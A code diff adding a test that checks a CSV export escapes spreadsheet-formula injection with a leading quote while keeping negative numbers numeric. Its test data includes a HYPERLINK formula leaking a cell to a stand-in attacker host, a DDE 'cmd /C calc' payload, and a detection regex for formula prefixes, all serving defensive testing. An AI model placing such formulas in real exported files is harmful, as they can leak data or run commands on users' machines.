@@ -251,6 +251,28 @@ describe('formats', () => {
     assert.equal(records[1]!.not_in_effect_cause, 'no_agreement');
   });
 
+  test('CSV: a text cell a spreadsheet would run as a formula starts with a single quote (OWASP); numbers stay numbers', () => {
+    const names = ['=HYPERLINK("https://evil.example/?leak="&A1,"Click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)', '\t=1+1', '\r=1+1', 'Acme = safe'];
+    const formulas: typeof inventory = {
+      generated_at: iso(NOW),
+      data: buildInventory(names.map((legalName, i) => source({
+        partner: { ...PARTNER, id: `p_${i}`, legalName },
+        // Ended 10 days ago: a negative day count, and a suspension reason typed by staff.
+        agreement: agreement({ status: 'suspended', statusReason: '=1+2', endsAt: addDays(NOW, -10) }),
+      })), NOW),
+    };
+    for (const csv of [inventoryCsv(formulas), formatInventory(formulas, 'csv')]) {
+      const records = parse(csv, { columns: true }) as Record<string, string>[];
+      assert.deepEqual(records.map((r) => r.partner_legal_name), [
+        '\'=HYPERLINK("https://evil.example/?leak="&A1,"Click")', '\'+1+cmd|\' /C calc\'!A0', '\'-2+3', '\'@SUM(1+1)', '\'\t=1+1', '\'\r=1+1', 'Acme = safe',
+      ]);
+      assert.ok(records.every((r) => r.status_reason === "'=1+2"));
+      assert.ok(records.every((r) => r.days_to_end === '-10'), 'a computed negative number is not text');
+      // No cell of any row starts a formula.
+      for (const record of records) for (const cell of Object.values(record)) assert.doesNotMatch(cell, /^[=+@\t\r]|^-(?!\d+$)/, cell);
+    }
+  });
+
   test('JSON is the inventory itself', () => {
     assert.deepEqual(JSON.parse(formatInventory(inventory, 'json')), JSON.parse(JSON.stringify(inventory)));
   });
